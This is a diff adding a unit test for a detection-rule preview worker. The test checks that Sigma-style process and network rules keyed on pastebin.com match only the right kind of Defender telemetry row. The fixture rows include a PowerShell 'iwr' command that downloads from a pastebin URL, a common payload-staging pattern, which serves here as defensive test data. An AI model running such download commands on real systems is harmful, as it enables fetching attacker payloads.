@@ -117,4 +117,17 @@ describe('worker', () => {
     assert.equal(r.cancelled, true);
     assert.equal(r.matched, 0);
   });
+
+  it('does not match a process-creation rule on Defender network rows, nor a network rule on process rows', async () => {
+    const rows = [
+      { Timestamp: '2025-03-10T10:00:00Z', InitiatingProcessFileName: 'powershell.exe', InitiatingProcessCommandLine: 'powershell iwr https://pastebin.com/raw/x', RemoteUrl: 'pastebin.com', RemoteIP: '1.2.3.4' },
+      { Timestamp: '2025-03-10T10:00:01Z', FileName: 'powershell.exe', ProcessCommandLine: 'powershell iwr https://pastebin.com/raw/x', InitiatingProcessFileName: 'explorer.exe' },
+    ];
+    const text = rows.map((r) => JSON.stringify(r)).join('\n');
+    const proc = await previewRule(rule("    selection:\n        CommandLine|contains: 'pastebin.com'\n    condition: selection", '    product: windows\n    category: process_creation'), [{ source: 'd.ndjson', text }]);
+    assert.deepEqual(proc.matches.map((m) => m.index), [1]);
+    const net = await previewRule(rule("    selection:\n        DestinationHostname|endswith: 'pastebin.com'\n    condition: selection", NETWORK), [{ source: 'd.ndjson', text }]);
+    assert.deepEqual(net.matches.map((m) => m.index), [0]);
+    assert.equal(proc.scanned, 2);
+  });
 });
